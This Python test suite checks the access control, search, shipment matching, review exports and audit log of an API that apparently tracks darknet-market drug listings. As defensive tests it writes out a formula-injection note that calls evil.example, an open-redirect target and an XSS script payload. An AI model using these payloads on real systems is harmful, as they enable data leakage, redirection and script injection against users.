"""The HTTP API (issue 8): every route with no key, a bad or revoked key, the wrong role
and the right one; search, listings, vendors with aliases, matching (JSON, CSV, JSON Lines,
bad rows, limits), match review and its exports, the watchlist feed with ETags, key
administration, the append-only audit log, the `keys` / `audit` / `serve` commands, and
the same answers from Elasticsearch. A real uvicorn server on loopback, a real HTTP client."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import time
from functools import partial

import httpx
import pytest

from conftest import make_listing, run_cli
from interdict.web.access import ROLES
from servers import make_app, serving

pytestmark = pytest.mark.timeout(600)


class Api:
    """An HTTP client per key: ``api.as_(role).get(...)``."""

    def __init__(self, url: str, keys: dict[str, str]):
        self.url, self.keys = url, keys

    def as_(self, who: str | None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {self.keys[who]}"} if who else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=120)


@pytest.fixture(scope="module")
def api(matching_db, tmp_path_factory):
    from index.embedded import EmbeddedStore
    from interdict.web.access import AccessStore

    state = tmp_path_factory.mktemp("api") / "api.db"
    access = AccessStore(state)
    keys = {role: access.create_key(f"test {role}", role)[1] for role in ROLES}
    revoked, keys["revoked"] = access.create_key("former analyst", "analyst")
    access.revoke(revoked.id)
    access.close()
    app = make_app(partial(EmbeddedStore, matching_db), state, max_upload=2_000_000)
    with serving(app) as url:
        yield Api(url, keys | {"state": str(state)})


@pytest.fixture(scope="module")
def ids(matching_db):
    """A listing, a vendor with an alias on the other market, and a stream of shipments."""
    from index.embedded import EmbeddedStore
    from matching.synthetic import StreamGenerator

    with EmbeddedStore(matching_db) as store:
        listing = next(p for p in store.iter_profiles() if "Cocaine" in p.title)
        vendors = {}
        for vendor in store.iter_vendors():
            vendors.setdefault(vendor.name, []).append(vendor)
        alias_pair = next(v for v in vendors.values() if len({x.market for x in v}) == 2)
        stream = [s for s, _ in StreamGenerator(store, seed=21).stream(40, decoy_share=0.2)]
    return {"listing": listing.id, "vendor": alias_pair[0].id, "alias": alias_pair[1].id,
            "vendor_name": alias_pair[0].name, "stream": stream}


def _jsonl(shipments) -> str:
    return "".join(s.model_dump_json(exclude_none=True) + "\n" for s in shipments)


@pytest.fixture(scope="module")
def batch(api, ids):
    with api.as_("analyst") as client:
        made = client.post("/api/batches", params={"name": "stream 21"}, content=_jsonl(ids["stream"]),
                           headers={"Content-Type": "application/x-ndjson"})
    assert made.status_code == 200, made.text
    return made.json()


# -- who may do what -------------------------------------------------------------------------
def _small_png() -> bytes:
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 40)).save(out, "PNG")
    return out.getvalue()


def _calls(ids, batch, spare_key: str):
    """(method, path, request options, roles that may) for every route."""
    first = next(r for r in batch["results"] if r["matches"])
    match = first["matches"][0]
    target = match["listing_id"] or f"vendor:{match['vendor_id']}"
    shipment = json.loads(ids["stream"][0].model_dump_json())
    return [
        ("GET", "/api/search", {"params": {"q": "cocaine"}}, "analyst"),
        ("GET", f"/api/listings/{ids['listing']}", {}, "analyst"),
        ("GET", f"/api/vendors/{ids['vendor']}", {}, "analyst"),
        ("POST", "/api/match", {"json": shipment}, "risk-engine analyst"),
        ("POST", "/api/batches", {"content": _jsonl(ids["stream"][:3]),
                                  "headers": {"Content-Type": "application/x-ndjson"}}, "analyst"),
        ("GET", "/api/batches", {}, "analyst"),
        ("GET", f"/api/batches/{batch['id']}", {}, "analyst"),
        ("PUT", f"/api/batches/{batch['id']}/reviews", {"json": {"item_id": first["item_id"], "target": target,
                                                                   "decision": "open"}}, "analyst"),
        ("GET", f"/api/batches/{batch['id']}/export", {"params": {"format": "csv"}}, "analyst"),
        ("GET", "/api/watchlist", {"params": {"format": "json"}}, "risk-engine"),
        ("GET", "/api/watchlist/misp-feed/manifest.json", {}, "risk-engine"),
        ("GET", "/taxii2/", {}, "risk-engine"),
        ("GET", "/taxii2/watchlist/collections/", {}, "risk-engine"),
        ("GET", "/api/graph", {"params": {"entity": f"vendor:{ids['vendor']}", "depth": 1}}, "analyst"),
        ("GET", "/api/trends", {"params": {"product": "cocaine", "by": "ships_from"}}, "analyst"),
        ("POST", "/api/photos/search", {"content": _small_png(), "headers": {"Content-Type": "image/png"}}, "analyst"),
        ("GET", "/api/trackers", {}, "analyst admin"),
        ("POST", "/api/trackers", {"json": {"name": "cocaine", "kind": "search", "query": {"text": "cocaine"}}},
         "analyst admin"),
        ("GET", "/api/alerts", {}, "analyst admin"),
        ("GET", "/api/keys", {}, "admin"),
        ("POST", "/api/keys", {"json": {"name": "made by a test", "role": "risk-engine"}}, "admin"),
        ("GET", "/api/audit", {}, "admin"),
        ("GET", "/api/jobs", {}, "admin"),
        ("GET", "/api/metrics", {}, "admin monitor"),
        ("DELETE", f"/api/keys/{spare_key}", {}, "admin"),  # admin comes last: the key is revoked then
    ]


@pytest.fixture(scope="module")
def batch_results(api, batch):
    with api.as_("analyst") as client:
        return client.get(f"/api/batches/{batch['id']}", params={"limit": 1000}).json()


def test_health_needs_no_key_and_tells_nothing_else(api):
    with api.as_(None) as client:
        assert client.get("/health").json() == {"status": "ok"}


def test_every_route_refuses_no_key_bad_keys_and_the_wrong_role(api, ids, batch_results):
    from interdict.web.access import AccessStore

    spare = AccessStore(api.keys["state"]).create_key("to be revoked", "analyst")[0]
    roles = ("analyst", "risk-engine", "monitor", "admin")  # admin last: it revokes the spare key
    for method, path, options, allowed in _calls(ids, batch_results, spare.id):
        for who in (None, "revoked"):
            with api.as_(who) as client:
                refused = client.request(method, path, **options)
            assert refused.status_code == 401, (method, path, who, refused.text)
            assert refused.headers["www-authenticate"] == "Bearer"
        with httpx.Client(base_url=api.url, headers={"Authorization": "Bearer idk_0000_forged"}) as client:
            assert client.request(method, path, **options).status_code == 401
        for role in roles:
            with api.as_(role) as client:
                answer = client.request(method, path, **options)
            if role in allowed.split():
                assert answer.status_code in (200, 201), (method, path, role, answer.text)
            else:
                assert answer.status_code == 403, (method, path, role, answer.text)
                assert "may not" in answer.json().get("detail", answer.json().get("title"))  # TAXII: title


def test_pages_send_a_stranger_to_the_login_and_refuse_the_wrong_role(api, ids):
    pages = ["/", "/search?q=cocaine", f"/listings/{ids['listing']}", f"/vendors/{ids['vendor']}", "/review", "/photos"]
    for path in pages:
        with api.as_(None) as client:
            stranger = client.get(path, follow_redirects=False)
        assert stranger.status_code == 303 and stranger.headers["location"].startswith("/login?next=%2F")
        with api.as_("risk-engine") as client:
            refused = client.get(path)
        assert refused.status_code == 403 and "may not" in refused.text and refused.headers["content-type"].startswith(
            "text/html")
        with api.as_("analyst") as client:
            shown = client.get(path)
        assert shown.status_code == 200 and "script-src 'self'" in shown.headers["content-security-policy"]
        if path.startswith("/listings/"):  # lists as text, never as a Python list
            assert "[&#39;" not in shown.text and "['" not in shown.text, shown.text
    with api.as_(None) as client:
        assert client.get("/static/app.js").status_code == 200  # the app's own script and CSS need no key
        away = client.post("/login", content="key=idk_x_y&next=//evil.example/", follow_redirects=False)
        assert away.status_code == 401  # a bad key: the form again, and never a redirect off the site
        home = client.post("/login", content=f"key={api.keys['analyst']}&next=//evil.example/",
                           follow_redirects=False)
        assert home.status_code == 303 and home.headers["location"] == "/"
        assert "httponly" in home.headers["set-cookie"].lower() and "samesite=strict" in home.headers["set-cookie"].lower()


def test_the_openapi_document_lists_the_routes_to_any_key_holder(api):
    with api.as_(None) as client:
        assert client.get("/api/openapi.json").status_code == 401
        assert client.get("/docs").status_code == 404 and client.get("/openapi.json").status_code == 404
    with api.as_("risk-engine") as client:
        document = client.get("/api/openapi.json").json()
    assert {"/api/search", "/api/match", "/api/watchlist", "/api/batches/{batch_id}/reviews"} <= set(document["paths"])


# -- reading the index -----------------------------------------------------------------------
def test_search_with_filters_facets_and_highlights(api):
    with api.as_("analyst") as client:
        found = client.get("/api/search", params={"q": "cocaine", "facets": "market,ships_from", "limit": 5}).json()
        narrowed = client.get("/api/search", params={"q": "cocaine", "market": "sable"}).json()
        cheap = client.get("/api/search", params={"q": "cocaine", "price_max_usd": 100}).json()
        wrong = client.get("/api/search", params={"q": "cocaine", "sort": "sideways"})
    assert found["total"] > 5 and len(found["hits"]) == 5
    assert "<mark>" in found["hits"][0]["highlights_html"]["title"]
    markets = {c["value"]: c["count"] for c in found["facets"]["market"]}
    assert markets["sable"] == narrowed["total"] and sum(markets.values()) == found["total"]
    assert {h["market"] for h in narrowed["hits"]} == {"sable"}
    assert all(h["price_usd"] <= 100 for h in cheap["hits"]) and cheap["total"] < found["total"]
    assert wrong.status_code == 422


def test_search_takes_every_filter_the_store_knows(api, matching_db):
    """The API's filters are the index's (FILTER_FIELDS and the exact place filters), each
    answering as the store does for the same query."""
    from index.embedded import EmbeddedStore
    from index.query import EXACT_FILTERS, FILTER_FIELDS, Query
    from interdict.web.deps import ListingFilters

    assert set(ListingFilters.model_fields) == {*FILTER_FIELDS, *EXACT_FILTERS}
    with EmbeddedStore(matching_db) as store:
        vendor = store.search(Query(facets=["vendor_id"], limit=0)).facets["vendor_id"][0]
        asked = {"vendor_id": [vendor.value], "status": ["active"]}
        expected = store.search(Query(filters=asked, limit=0)).total
    with api.as_("analyst") as client:
        answer = client.get("/api/search", params=asked | {"limit": 0}).json()
        inf = client.get("/api/search", params={"price_min_usd": "inf"})
    assert answer["total"] == expected > 0
    assert inf.status_code == 422


def test_a_listing_with_its_history_and_evidence_reference(api, ids):
    with api.as_("analyst") as client:
        doc = client.get(f"/api/listings/{ids['listing']}").json()
        missing = client.get("/api/listings/nothing-here")
    assert doc["id"] == ids["listing"] and doc["price_history"] and doc["data"]["enrichment"]["entities"]
    assert "evidence" in doc["data"]["listing"]
    assert missing.status_code == 404


def test_a_vendor_with_aliases_linked_by_shared_identifiers(api, ids):
    with api.as_("analyst") as client:
        profile = client.get(f"/api/vendors/{ids['vendor']}").json()
    assert profile["vendor"]["name"] == ids["vendor_name"] and profile["identifiers"]
    alias = next(a for a in profile["aliases"] if a["id"] == ids["alias"])
    assert alias["shared"] and alias["market"] != profile["vendor"]["market"]
    relations = {listing["relation"] for listing in profile["listings"]}
    assert {"this vendor", "alias (shared identifier)"} <= relations
    assert len({listing["market"] for listing in profile["listings"]}) == 2


def test_vendors_found_by_name_or_identifier_in_any_form(api, ids):
    with api.as_("analyst") as client:
        profile = client.get(f"/api/vendors/{ids['vendor']}").json()
        pgp = next(i["value"] for i in profile["identifiers"] if i["kind"] == "pgp")
        by_key = client.get("/api/vendors", params={"q": "0x" + pgp[-8:].lower()}).json()
        by_name = client.get("/api/vendors", params={"q": ids["vendor_name"].upper(), "market": "vesper"}).json()
        empty = client.get("/api/vendors", params={"q": ""})
    assert {v["id"] for v in by_key} >= {ids["vendor"], ids["alias"]}
    assert all(v["market"] == "vesper" for v in by_name) and by_name[0]["name"] == ids["vendor_name"]
    assert empty.status_code == 422


# -- matching and review ---------------------------------------------------------------------
def test_matching_takes_json_csv_and_json_lines_and_names_bad_rows(api, ids):
    shipment = ids["stream"][0]
    good = json.loads(shipment.model_dump_json())
    with api.as_("risk-engine") as client:
        one = client.post("/api/match", json=good).json()
        several = client.post("/api/match", json=[good, {"item_id": "XX1"}]).json()
        lines = client.post("/api/match", content=_jsonl(ids["stream"][:5]) + "{broken\n",
                            headers={"Content-Type": "application/x-ndjson"}).json()
        csv_text = open("docs/samples/shipments.csv", encoding="utf-8").read()
        table = client.post("/api/match", content=csv_text + "RR0,2026-01-01\n", headers={"Content-Type": "text/csv"})
        too_big = client.post("/api/match", content=b"x" * 2_000_001, headers={"Content-Type": "text/csv"})
        unknown = client.post("/api/match", content=b"<xml/>", headers={"Content-Type": "application/xml"})
    assert one["results"][0]["item_id"] == shipment.item_id and one["problems"] == []
    assert len(several["results"]) == 1 and several["problems"][0].startswith("shipment 2: ")
    assert len(lines["results"]) == 5 and lines["problems"][0].startswith("line 6: line: not valid JSON")
    assert table.status_code == 200 and len(table.json()["results"]) >= 1
    assert any(p.startswith("line ") for p in table.json()["problems"])
    assert too_big.status_code == 413 and unknown.status_code == 415


def test_an_analyst_reviews_matches_and_the_exports_carry_the_decisions(api, batch, batch_results):
    assert batch["shipments"] == 40 and batch["matched"] > 20
    matched = [r for r in batch_results["results"] if r["matches"]]
    confirm, reject = matched[0], matched[1]

    def target(result):
        m = result["matches"][0]
        return m["listing_id"] or f"vendor:{m['vendor_id']}"

    hostile = "=HYPERLINK(\"http://evil.example/\"&A1)"
    with api.as_("analyst") as client:
        done = client.put(f"/api/batches/{batch['id']}/reviews", json={
            "item_id": confirm["item_id"], "target": target(confirm), "decision": "confirmed", "note": hostile})
        client.put(f"/api/batches/{batch['id']}/reviews", json={
            "item_id": reject["item_id"], "target": target(reject), "decision": "rejected", "note": "other vendor"})
        wrong = client.put(f"/api/batches/{batch['id']}/reviews", json={
            "item_id": confirm["item_id"], "target": "not-a-match", "decision": "confirmed"})
        invalid = client.put(f"/api/batches/{batch['id']}/reviews", json={
            "item_id": confirm["item_id"], "target": target(confirm), "decision": "maybe"})
        table = client.get(f"/api/batches/{batch['id']}/export", params={"format": "csv"})
        lines = client.get(f"/api/batches/{batch['id']}/export", params={"format": "jsonl"}).text.splitlines()
        listed = client.get("/api/batches").json()
    assert done.status_code == 200 and done.json()["key_name"] == "test analyst"
    assert wrong.status_code == 404 and invalid.status_code == 422
    rows = list(csv.DictReader(io.StringIO(table.text)))
    assert "attachment" in table.headers["content-disposition"]
    confirmed = next(r for r in rows if r["item_id"] == confirm["item_id"] and r["rank"] == "1")
    assert confirmed["decision"] == "confirmed" and confirmed["note"] == "'" + hostile  # formula neutralised
    assert next(r for r in rows if r["item_id"] == reject["item_id"] and r["rank"] == "1")["decision"] == "rejected"
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
    exported = {json.loads(line)["item_id"]: json.loads(line) for line in lines}
    assert exported[confirm["item_id"]]["matches"][0]["review"]["decision"] == "confirmed"
    assert exported[confirm["item_id"]]["matches"][0]["review"]["note"] == hostile  # JSON keeps it as it was
    assert len(exported) == 40 and batch["id"] in {b["id"] for b in listed}


# -- the watchlist feed ----------------------------------------------------------------------
def test_the_watchlist_feed_with_etag_and_cursor(api):
    import stix2

    with api.as_("risk-engine") as client:
        first = client.get("/api/watchlist")
        again = client.get("/api/watchlist", headers={"If-None-Match": first.headers["etag"]})
        cursor = first.headers["x-interdict-cursor"]
        since = client.get("/api/watchlist", params={"since": cursor}).json()
        bad_cursor = client.get("/api/watchlist", params={"since": "nonsense"})
        table = client.get("/api/watchlist", params={"format": "csv"})
        bundle = client.get("/api/watchlist", params={"format": "stix"})
        everything = client.get("/api/watchlist", params={"all": "true"}).json()
    assert first.status_code == 200 and first.json()["count"] > 500 and first.json()["cursor"] == cursor
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == first.headers["etag"]
    assert since["count"] == 0 and bad_cursor.status_code == 422
    assert table.headers["content-type"].startswith("text/csv") and table.text.startswith("id,term,kind")
    assert stix2.parse(bundle.text, allow_custom=False).type == "bundle"
    assert bundle.headers["x-interdict-cursor"] == cursor and cursor not in bundle.text
    assert bundle.headers["etag"] != first.headers["etag"]
    assert everything["count"] > first.json()["count"]
    assert all(t["excluded"] is None for t in first.json()["terms"])
    assert {t["excluded"] is None for t in everything["terms"]} == {True, False}


# -- keys and the audit log ------------------------------------------------------------------
def test_an_admin_creates_and_revokes_keys_over_the_api(api):
    with api.as_("admin") as admin:
        made = admin.post("/api/keys", json={"name": "night shift", "role": "analyst"})
        bad_role = admin.post("/api/keys", json={"name": "x", "role": "superuser"})
        listed = admin.get("/api/keys").json()
    assert made.status_code == 201 and made.json()["key"].startswith("idk_")
    assert bad_role.status_code == 422
    assert all("key" not in k and "digest" not in k for k in listed)
    with httpx.Client(base_url=api.url, headers={"Authorization": f"Bearer {made.json()['key']}"}) as client:
        assert client.get("/api/search", params={"q": "pills"}).status_code == 200
        with api.as_("admin") as admin:
            assert admin.delete(f"/api/keys/{made.json()['id']}").status_code == 200
            assert admin.delete(f"/api/keys/{made.json()['id']}").status_code == 404  # already revoked
        assert client.get("/api/search", params={"q": "pills"}).status_code == 401


def test_the_audit_log_says_who_did_what_and_cannot_be_rewritten(api, ids, batch, tmp_path):
    from interdict.web.access import AccessStore

    with api.as_("analyst") as client:
        client.get("/api/search", params={"q": "audited words", "market": "vesper"})
        client.get(f"/api/listings/{ids['listing']}")
    with api.as_("risk-engine") as client:
        client.get("/api/search", params={"q": "not allowed"})
    with api.as_("admin") as client:
        records = client.get("/api/audit", params={"limit": 1000}).json()
    searched = next(r for r in records if r["action"] == "search" and r["target"] == "audited words")
    assert searched["key_name"] == "test analyst" and searched["detail"]["filters"] == {"market": ["vesper"]}
    assert any(r["action"] == "view" and r["target"] == f"listing/{ids['listing']}" for r in records)
    denied = next(r for r in records if r["action"] == "denied" and r["role"] == "risk-engine")
    assert denied["status"] == 403 and denied["detail"] == {"needs": "search"}
    assert any(r["action"] == "match" and r["target"] == f"batch/{batch['id']}" for r in records)
    assert not any(api.keys["analyst"] in json.dumps(r) for r in records)  # keys are never written down
    db = sqlite3.connect(api.keys["state"])
    for statement in ("UPDATE audit SET target = 'nothing' WHERE seq = 1", "DELETE FROM audit WHERE seq = 1"):
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            db.execute(statement)
    db.close()
    # Someone with the file could drop the triggers; the hash chain still shows the edit.
    copy = tmp_path / "copy.db"
    with sqlite3.connect(api.keys["state"]) as source, sqlite3.connect(copy) as target:
        source.backup(target)
    tampered = sqlite3.connect(copy)
    tampered.executescript("DROP TRIGGER audit_no_update; UPDATE audit SET target = 'innocent' WHERE seq = 3;")
    tampered.close()
    anchor = (os.environ["INTERDICT_API__AUDIT_KEY_FILE"], os.environ["INTERDICT_API__AUDIT_HEAD_FILE"])
    tampered = AccessStore(copy, *anchor).verify()
    assert tampered.problem == "record 3 does not match its digest: altered after it was written"
    assert tampered.checked == 2
    assert AccessStore(api.keys["state"], *anchor).verify().problem is None


def test_metrics_for_prometheus(api):
    from prometheus_client.parser import text_string_to_metric_families

    with api.as_("monitor") as client:
        answer = client.get("/api/metrics")
        assert client.get("/api/search", params={"q": "x"}).status_code == 403  # metrics, nothing else
    assert answer.headers["content-type"].startswith("text/plain")
    families = {f.name: f for f in text_string_to_metric_families(answer.text)}
    listings = families["interdict_index_listings"].samples[0].value
    assert listings > 2000 and "interdict_market_up" in families and "interdict_crawl_jobs" in families


def test_the_keys_and_audit_commands(tmp_path):
    env = {"INTERDICT_API__PATH": str(tmp_path / "api.db")}
    made = run_cli("keys", "create", "ops laptop", "--role", "admin", env=env)
    assert made.returncode == 0 and made.stdout.startswith("idk_") and "shown this once" in made.stderr
    key_id = made.stdout.strip()[4:].split("_")[0]
    listed = run_cli("keys", "list", env=env)
    assert key_id in listed.stdout and "active" in listed.stdout and made.stdout.strip() not in listed.stdout
    assert run_cli("keys", "create", "x", "--role", "root", env=env).returncode == 2
    assert run_cli("keys", "revoke", key_id, env=env).returncode == 0
    assert "revoked" in run_cli("keys", "list", env=env).stdout
    again = run_cli("keys", "revoke", key_id, env=env)
    assert again.returncode == 2 and "already revoked" in again.stderr
    verified = run_cli("audit", "--verify", env=env)
    assert verified.returncode == 0 and "intact" in verified.stderr


def test_interdict_serve_answers_on_its_port(matching_db, tmp_path):
    import subprocess
    import sys

    from conftest import REPO
    from interdict.demo.run import free_port

    port = free_port()
    env = {"INTERDICT_API__PATH": str(tmp_path / "api.db"), "PATH": "/usr/bin:/bin"}
    process = subprocess.Popen([sys.executable, "-m", "interdict.cli", "serve", "--store", str(matching_db),
                                "--port", str(port)], cwd=REPO, env=env, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                answer = httpx.get(f"http://127.0.0.1:{port}/health", timeout=2)
                break
            except httpx.TransportError:
                assert process.poll() is None and time.monotonic() < deadline, "interdict serve did not start"
                time.sleep(0.3)
        assert answer.json() == {"status": "ok"}
        assert httpx.get(f"http://127.0.0.1:{port}/api/search").status_code == 401
    finally:
        process.terminate()
        _, stderr = process.communicate(timeout=30)
    assert f"http://127.0.0.1:{port}/" in stderr and "no API key yet" in stderr


# -- hostile text and the other store --------------------------------------------------------
def test_crawled_markup_comes_back_escaped_in_highlights(store, enricher, tmp_path):
    from index.embedded import EmbeddedStore

    payload = '<script>alert("x")</script><img src=x onerror=alert(1)> Cocaine'
    store.upsert_listings(enricher.enrich_listings([make_listing(title=payload, description=payload)]))
    keys_db = tmp_path / "api.db"
    from interdict.web.access import AccessStore

    key = AccessStore(keys_db).create_key("t", "analyst")[1]
    with serving(make_app(partial(EmbeddedStore, store.path), keys_db)) as url:
        hit = httpx.get(f"{url}/api/search", params={"q": "cocaine"}, headers={"Authorization": f"Bearer {key}"},
                        timeout=60).json()["hits"][0]
    assert hit["title"] == payload  # the data as crawled, for clients that escape it themselves
    shown = hit["highlights_html"]["title"]
    assert "<script>" not in shown and "<img" not in shown
    assert shown.startswith("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img") and "<mark>Cocaine</mark>" in shown


def test_elasticsearch_answers_as_the_embedded_store_does(api, ids, matching_store, elasticsearch_url, tmp_path):
    from conftest import es_store
    from config import load_config
    from index.elastic import ElasticsearchStore
    from index.embedded import EmbeddedStore
    from interdict.web.access import AccessStore

    es = es_store(elasticsearch_url)
    try:
        docs = list(matching_store.iter_listings())
        for when in ("first_seen", "last_seen"):
            es.upsert_listings(d.data.model_copy(update={"listing": d.data.listing.model_copy(
                update={"crawled_at": getattr(d, when)})}) for d in docs)
        es.upsert_vendors(v.data for v in matching_store.iter_vendors())
        es.es.indices.refresh(index=f"{es.prefix}-*")
        state = tmp_path / "api.db"
        key = AccessStore(state).create_key("es analyst", "analyst")[1]
        open_es = partial(ElasticsearchStore, load_config(env={}).elasticsearch, elasticsearch_url,
                          index_prefix=es.prefix)
        queries = [{"q": "cocaine", "facets": "market,category"}, {"q": "pills", "ships_from": "NL"}]
        with serving(make_app(open_es, state)) as url, \
                httpx.Client(base_url=url, headers={"Authorization": f"Bearer {key}"}, timeout=120) as client, \
                api.as_("analyst") as embedded:
            for params in queries:
                mine, theirs = embedded.get("/api/search", params=params).json(), client.get(
                    "/api/search", params=params).json()
                assert mine["total"] == theirs["total"] > 0 and mine["facets"] == theirs["facets"]
            mine, theirs = (c.get(f"/api/vendors/{ids['vendor']}").json() for c in (embedded, client))
            assert [a["id"] for a in mine["aliases"]] == [a["id"] for a in theirs["aliases"]]
            assert sorted(x["id"] for x in mine["listings"]) == sorted(x["id"] for x in theirs["listings"])
        # Without the per-key cut-off (which keeps the most recent by each store's own order),
        # both stores give every candidate, hence the same matches with the same scores.
        every = load_config(env={"INTERDICT_MATCHING__CANDIDATES_PER_KEY": "10000",
                                 "INTERDICT_MATCHING__MAX_CANDIDATES": "10000"})
        stream = [json.loads(s.model_dump_json()) for s in ids["stream"][:20]]

        def matches(opener) -> list:
            with serving(make_app(opener, state, config=every)) as url:
                answer = httpx.post(f"{url}/api/match", json=stream, headers={"Authorization": f"Bearer {key}"},
                                    timeout=300).json()
            return [[(m["listing_id"] or m["vendor_id"], round(m["score"], 4)) for m in r["matches"]]
                    for r in answer["results"]]

        from_es, from_embedded = matches(open_es), matches(partial(EmbeddedStore, matching_store.path))
        assert from_es == from_embedded and sum(map(bool, from_es)) >= 10
    finally:
        es.es.indices.delete(index=",".join(es.es.indices.get(index=f"{es.prefix}-*")))
        es.close()
